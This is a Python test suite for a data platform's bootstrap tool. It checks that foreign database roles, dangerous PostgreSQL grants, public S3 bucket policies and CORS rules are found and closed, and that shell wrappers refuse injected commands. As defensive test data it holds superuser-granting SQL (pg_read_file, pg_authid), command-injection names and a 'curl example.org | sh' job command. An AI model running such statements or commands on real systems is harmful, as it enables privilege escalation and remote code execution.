# SPDX-License-Identifier: GPL-3.0-or-later
"""Objects that bootstrap did not create are found, and closed on request; objects with data stay."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import prepared
import psycopg
import pytest
import services
from psycopg.conninfo import make_conninfo
from pydantic import SecretStr

from crypto_lakehouse import bootstrap
from crypto_lakehouse.bootstrap import database, foreign_database, foreign_storage, weed
from crypto_lakehouse.bootstrap.ledger import BootstrapError, Foreign, Ledger
from crypto_lakehouse.flows.deployments import plain_template
from crypto_lakehouse.objectstore import s3_client
from crypto_lakehouse.settings import Settings

Part = Callable[[Settings, Ledger], None]


def run(part: Part, settings: Settings, *remove: tuple[str, str], check: bool = False) -> Ledger:
    ledger = Ledger(check=check, wait_s=30, remove=frozenset(remove))
    part(settings, ledger)
    return ledger


@pytest.fixture(scope="module")
def settings(object_store: services.ObjectStore, database_server: services.DatabaseServer) -> Settings:
    prepared.put_in_place(object_store, database_server)
    return services.settings_from(prepared.administrator_environment(object_store, database_server))


@pytest.fixture
def superuser(database_server: services.DatabaseServer) -> Iterator[psycopg.Connection[tuple[Any, ...]]]:
    with psycopg.connect(database_server.admin_url, autocommit=True) as connection:
        yield connection


@pytest.fixture
def admin(database_server: services.DatabaseServer) -> Iterator[psycopg.Connection[tuple[Any, ...]]]:
    with psycopg.connect(database_server.admin_url, autocommit=True) as connection:
        yield connection
        for statement in (
            "DROP DATABASE IF EXISTS reports",
            "DROP OWNED BY evil, readers CASCADE",
            "DROP ROLE IF EXISTS evil, readers",
        ):
            connection.execute(statement.encode())


def test_roles_memberships_and_privileges_are_found_and_closed_on_request(
    settings: Settings, admin: psycopg.Connection[tuple[Any, ...]], database_server: services.DatabaseServer
) -> None:
    for statement in (
        "CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'of-the-test'",
        "CREATE ROLE readers",
        "GRANT lakehouse TO readers",
        "CREATE DATABASE reports OWNER evil",
    ):
        admin.execute(statement.encode())
    with psycopg.connect(database_server.admin_url, dbname="lakehouse", autocommit=True) as inside:
        inside.execute("GRANT SELECT ON pipeline_runs TO readers")
        inside.execute("GRANT INSERT ON pipeline_runs TO PUBLIC")
    found = run(foreign_database.report, settings).foreign
    assert set(found) >= {
        Foreign("role", "evil", "logs in, superuser"),
        Foreign("role-without-login", "readers"),
        Foreign("role-membership", "lakehouse/readers", "readers has the privileges of lakehouse"),
        Foreign("database-privilege", "lakehouse/readers", "SELECT on table public.pipeline_runs"),
        Foreign("database-privilege", "lakehouse/PUBLIC", "INSERT on table public.pipeline_runs"),
        Foreign("database", "reports", "owner evil"),
    }
    assert not [each for each in found if each.name.startswith("pg_") or each.name in ("postgres", "template1")]
    remove = [(each.kind, each.name) for each in found]
    checked = run(foreign_database.report, settings, *remove, check=True)
    assert (checked.foreign, checked.removed) == (found, [])
    session = psycopg.connect(make_conninfo(database_server.admin_url, user="evil", password="of-the-test"))
    run(foreign_database.report, settings, *remove)
    with pytest.raises(psycopg.OperationalError):
        session.execute("SELECT 1")
    with pytest.raises(psycopg.OperationalError, match="not permitted to log in"):
        psycopg.connect(make_conninfo(database_server.admin_url, user="evil", password="of-the-test"))
    left = run(foreign_database.report, settings).foreign
    assert {each.kind for each in left} <= {"role-without-login", "database"}
    assert Foreign("database", "reports", "owner evil") in left, "what owns data is never dropped"


def test_the_role_of_backups_is_foreign_only_where_backups_are_not_described(
    settings: Settings, database_server: services.DatabaseServer
) -> None:
    described = settings.model_copy(update={"database_backup_password": SecretStr("password-of-the-role-backup")})
    run(database.ensure, described)
    with psycopg.connect(database_server.admin_url, autocommit=True) as connection:
        connection.execute("GRANT lakehouse TO backup")
        of_backup = [each for each in run(foreign_database.report, described).foreign if "backup" in each.name]
        left_over = run(foreign_database.report, settings).foreign
        connection.execute("DROP OWNED BY backup")
        connection.execute("DROP ROLE backup")
    assert of_backup == [Foreign("role-membership", "lakehouse/backup", "backup has the privileges of lakehouse")]
    assert Foreign("role", "backup", "logs in, replicates") in left_over


GRANTS = {
    "GRANT EXECUTE ON FUNCTION pg_read_file(text) TO lakehouse": (
        "lakehouse",
        "EXECUTE on routine pg_catalog.pg_read_file(text)",
    ),
    "GRANT SELECT ON pg_authid TO lakehouse": ("lakehouse", "SELECT on table pg_catalog.pg_authid"),
    "CREATE VIEW public.keys AS FROM_AUTHID; GRANT SELECT ON public.keys TO lakehouse": (
        "lakehouse",
        "SELECT on table public.keys",
    ),
    "GRANT SET ON PARAMETER session_preload_libraries TO lakehouse": (
        "lakehouse",
        "SET on parameter session_preload_libraries",
    ),
    "GRANT ALTER SYSTEM ON PARAMETER log_statement TO PUBLIC": ("PUBLIC", "ALTER SYSTEM on parameter log_statement"),
    "ALTER DEFAULT PRIVILEGES FOR ROLE lakehouse IN SCHEMA public GRANT SELECT, INSERT ON TABLES TO PUBLIC": (
        "PUBLIC",
        "INSERT, SELECT on future tables for role lakehouse in schema public",
    ),
    "ALTER DEFAULT PRIVILEGES FOR ROLE orchestrator GRANT USAGE ON SCHEMAS TO lakehouse": (
        "lakehouse",
        "USAGE on future schemas for role orchestrator",
    ),
    "CREATE FUNCTION public.become(what text) RETURNS void LANGUAGE sql SECURITY DEFINER AS ''": (
        "PUBLIC",
        "EXECUTE as postgres on routine public.become(what text)",
    ),
}
"""Statements of an administrator that give a role of the platform rights of a superuser: grantee and detail."""


def test_rights_of_a_superuser_that_were_given_to_others_are_found_and_revoked(
    settings: Settings, database_server: services.DatabaseServer
) -> None:
    before = run(foreign_database.report, settings).foreign
    with psycopg.connect(database_server.admin_url, dbname="lakehouse", autocommit=True) as inside:
        (user,) = inside.execute("SELECT current_user").fetchone() or ("",)
        for statement in GRANTS:
            inside.execute(statement.replace("FROM_AUTHID", "SELECT * FROM pg_authid").encode())
        found = [each for each in run(foreign_database.report, settings).foreign if each not in before]
        assert {(each.kind, each.name) for each in found} == {
            ("database-privilege", "lakehouse/lakehouse"),
            ("database-privilege", "lakehouse/PUBLIC"),
        }
        for grantee, detail in GRANTS.values():
            (told,) = (each.detail for each in found if each.name == f"lakehouse/{grantee}")
            assert detail.replace("postgres", user) in told.split("; ")
        run(foreign_database.report, settings, *((each.kind, each.name) for each in found))
        assert run(foreign_database.report, settings).foreign == before
        inside.execute("DROP VIEW public.keys")
        inside.execute("DROP FUNCTION public.become")


def test_default_privileges_that_say_what_holds_anyway_are_not_foreign(
    settings: Settings, database_server: services.DatabaseServer
) -> None:
    before = run(foreign_database.report, settings).foreign
    changes = (
        "ALTER DEFAULT PRIVILEGES FOR ROLE lakehouse IN SCHEMA public {} EXECUTE ON ROUTINES {} PUBLIC",
        "ALTER DEFAULT PRIVILEGES FOR ROLE lakehouse IN SCHEMA public {} ALL ON TABLES {} lakehouse",
    )
    with psycopg.connect(database_server.admin_url, dbname="lakehouse", autocommit=True) as inside:
        for change in changes:
            inside.execute(change.format("GRANT", "TO").encode())
        found = run(foreign_database.report, settings).foreign
        for change in changes:
            inside.execute(change.format("REVOKE", "FROM").encode())
    assert found == before


GRANTS_IN_POSTGRES = {
    "GRANT CONNECT ON DATABASE postgres TO lakehouse": "CONNECT on database postgres",
    "GRANT CREATE ON DATABASE template1 TO lakehouse": "CREATE on database template1",
    "GRANT SELECT (rolpassword) ON pg_authid TO lakehouse": "SELECT on table pg_catalog.pg_authid",
    "GRANT EXECUTE ON FUNCTION pg_read_file(text) TO lakehouse": "EXECUTE on routine pg_catalog.pg_read_file(text)",
}
"""Privileges in the databases of PostgreSQL itself, and their representation in a list."""


def test_privileges_in_the_databases_of_postgresql_itself_are_found_and_revoked(
    settings: Settings, superuser: psycopg.Connection[tuple[Any, ...]]
) -> None:
    run(database.ensure, settings)
    before = run(foreign_database.report, settings).foreign
    assert not [each for each in before if each.name.startswith("postgres/")]
    for statement in GRANTS_IN_POSTGRES:
        superuser.execute(statement.encode())
    (found,) = (each for each in run(foreign_database.report, settings).foreign if each not in before)
    assert (found.kind, found.name) == ("database-privilege", "postgres/lakehouse")
    assert sorted(found.detail.split("; ")) == sorted(GRANTS_IN_POSTGRES.values())
    run(foreign_database.report, settings, (found.kind, found.name))
    assert run(foreign_database.report, settings).foreign == before


def test_a_revocation_leaves_the_role_of_backups_what_it_needs(
    settings: Settings, superuser: psycopg.Connection[tuple[Any, ...]]
) -> None:
    described = settings.model_copy(update={"database_backup_password": SecretStr("password-of-the-role-backup")})
    run(database.ensure, described)
    try:
        superuser.execute("GRANT CREATE ON DATABASE postgres TO backup")
        found = Foreign("database-privilege", "postgres/backup", "CREATE on database postgres")
        assert found in run(foreign_database.report, described).foreign
        assert run(foreign_database.report, described, (found.kind, found.name)).removed == [found]
        assert run(database.ensure, described).changed == []
    finally:
        superuser.execute("DROP OWNED BY backup")
        superuser.execute("DROP ROLE backup")


@pytest.mark.parametrize(
    ("change", "named"),
    [
        ("ALTER ROLE lakehouse CONNECTION LIMIT 3", "role lakehouse: connection limit"),
        ("ALTER ROLE lakehouse VALID UNTIL '2020-01-01'", "role lakehouse: connection limit"),
        ("ALTER ROLE lakehouse BYPASSRLS", "role lakehouse: login and no privilege beyond"),
        ("ALTER ROLE lakehouse SET work_mem = '1MB'", "role lakehouse: settings (work_mem)"),
        (
            "ALTER ROLE lakehouse IN DATABASE lakehouse SET work_mem = '1MB'",
            "role lakehouse in database lakehouse: settings (work_mem)",
        ),
        ("ALTER ROLE ALL SET work_mem = '1MB'", "every role: settings (work_mem)"),
        ("ALTER DATABASE orchestrator SET work_mem = '1MB'", "database orchestrator: settings (work_mem)"),
        ("ALTER DATABASE orchestrator CONNECTION LIMIT 3", "database orchestrator: connection limit"),
        ("GRANT TEMPORARY ON DATABASE lakehouse TO PUBLIC", "database lakehouse: closed to other roles"),
        ("ALTER SYSTEM SET work_mem = '1MB'", "database server: settings (work_mem)"),
    ],
)
def test_limits_and_settings_of_the_platform_are_found_and_repaired(
    settings: Settings, database_server: services.DatabaseServer, change: str, named: str
) -> None:
    with psycopg.connect(database_server.admin_url, autocommit=True) as connection:
        connection.execute(change.encode())
    assert run(database.ensure, settings, check=True).changed == [named]
    assert run(database.ensure, settings).changed == [named]
    assert run(database.ensure, settings).changed == []


def test_settings_of_other_roles_are_left_alone(settings: Settings, admin: psycopg.Connection[tuple[Any, ...]]) -> None:
    admin.execute("CREATE ROLE evil")
    admin.execute("CREATE ROLE readers")
    admin.execute("ALTER ROLE readers SET work_mem = '1MB'")
    assert run(database.ensure, settings).changed == []


def test_policies_access_lists_and_cors_rules_of_every_bucket_are_found_and_removed_on_request(
    settings: Settings,
) -> None:
    s3 = s3_client(settings)
    bronze, silver = settings.require("bronze_bucket"), settings.require("silver_bucket")
    statement = {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": f"arn:aws:s3:::{bronze}/*"}
    s3.put_bucket_policy(Bucket=bronze, Policy=json.dumps({"Version": "2012-10-17", "Statement": [statement]}))
    s3.put_bucket_acl(Bucket=silver, ACL="public-read")
    tables = settings.warehouse("gold").removeprefix("s3://")
    cors = {"CORSRules": [{"AllowedOrigins": ["https://evil.example"], "AllowedMethods": ["GET", "PUT"]}]}
    for name in (silver, tables):
        s3.put_bucket_cors(Bucket=name, CORSConfiguration=cors)
    s3.create_bucket(Bucket="users-own")
    expected = [
        Foreign("bucket-policy", bronze, "Allow everybody: s3:GetObject"),
        Foreign("bucket-acl", silver, "AllUsers: READ"),
        Foreign("bucket-cors", silver, "GET, PUT from https://evil.example"),
        Foreign("bucket-cors", tables, "GET, PUT from https://evil.example"),
        Foreign("bucket", "users-own"),
    ]
    remove = [(each.kind, each.name) for each in expected]
    checked = run(foreign_storage.report, settings, *remove, check=True)
    assert set(checked.foreign) >= set(expected)
    assert checked.removed == []
    assert sorted(run(foreign_storage.report, settings, *remove).removed) == sorted(expected[:-1])
    left = run(foreign_storage.report, settings).foreign
    assert expected[-1] in left, "a bucket is never deleted"
    assert not {"bucket-policy", "bucket-acl", "bucket-cors"} & {each.kind for each in left}
    s3.delete_bucket(Bucket="users-own")


def test_a_policy_is_told_in_one_line() -> None:
    deny = {"Effect": "Deny", "NotPrincipal": {"AWS": ["a", "b"]}, "Action": ["s3:Get*", "s3:Put*"]}
    assert foreign_storage.grants({"Statement": deny}) == "Deny all but a, b: s3:Get*, s3:Put*"
    assert foreign_storage.grants({}) == "no statement"


def test_one_removal_that_fails_keeps_no_other() -> None:
    ledger = Ledger(check=False, wait_s=0, remove=frozenset({("role", "a"), ("role", "b")}))
    closed: list[str] = []

    def refuse() -> None:
        raise BootstrapError("it is\nlocked")

    ledger.report(Foreign("role", "a"), refuse)
    ledger.report(Foreign("role", "b"), lambda: closed.append("b"))
    assert (closed, ledger.removed) == (["b"], [Foreign("role", "b")])
    assert (ledger.foreign, ledger.problems) == ([Foreign("role", "a")], ["cannot remove role a: it is locked"])


def test_the_command_closes_a_role_whose_name_looks_like_an_option(
    settings: Settings,
    object_store: services.ObjectStore,
    database_server: services.DatabaseServer,
    clean_environment: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    for name, value in prepared.administrator_environment(object_store, database_server).items():
        clean_environment.setenv(name, value)
    with psycopg.connect(database_server.admin_url, autocommit=True) as connection:
        connection.execute('CREATE ROLE "--check" LOGIN')
        status = bootstrap.main(["--phase=database", '--remove=["role", "--check"]'])
        connection.execute('DROP ROLE "--check"')
    assert status == 0
    removed = json.loads(capsys.readouterr().out)["removed"]
    assert removed == [{"kind": "role", "name": "--check", "detail": "logs in"}]


def test_the_stores_shell_is_given_no_second_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    said = tmp_path / "said"
    program = tmp_path / "weed"
    program.write_text(f'#!/bin/sh\ncat >{said}\necho "error: no such user"\n')
    program.chmod(0o700)
    monkeypatch.setattr(sys, "executable", str(tmp_path / "python"))
    for name in ("a b", "a\ns3.bucket.delete", "", "a;b"):
        with pytest.raises(BootstrapError, match="cannot name"):
            weed.disable_user("127.0.0.1:1.2", name)
    assert not said.exists()
    with pytest.raises(BootstrapError, match=r"refuses s3\.user\.disable: no such user"):
        weed.disable_user("127.0.0.1:1.2", "evil")
    assert said.read_text() == "s3.user.disable -name=evil\nexit\n"


def test_what_the_stores_shell_prints_is_in_no_message(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    program = tmp_path / "weed"
    program.write_text("#!/bin/sh\necho hunter2-secret\nexit 3\n")
    program.chmod(0o700)
    monkeypatch.setattr(sys, "executable", str(tmp_path / "python"))
    with pytest.raises(BootstrapError, match="status 3") as caught:
        weed.read_identities("127.0.0.1:1.2")
    assert "hunter2" not in str(caught.value)
    assert not isinstance(caught.value.__cause__, subprocess.SubprocessError)


def test_an_edited_job_template_is_made_plain_and_a_plain_one_is_kept() -> None:
    plain = {
        "job_configuration": {name: f"{{{{ {name} }}}}" for name in plain_fields()},
        "variables": {
            "type": "object",
            "properties": {"command": {"default": None}, "stream_output": {"default": True}},
        },
    }
    assert plain_template(plain) == plain
    assert plain_template({}) == {}
    edited = json.loads(json.dumps(plain))
    edited["job_configuration"]["command"] = "curl example.org | sh"
    edited["job_configuration"]["more"] = "x"
    edited["variables"]["properties"]["command"]["default"] = "true"
    assert plain_template(edited) == plain


def plain_fields() -> list[str]:
    return ["command", "env", "labels", "name", "stream_output", "working_dir"]
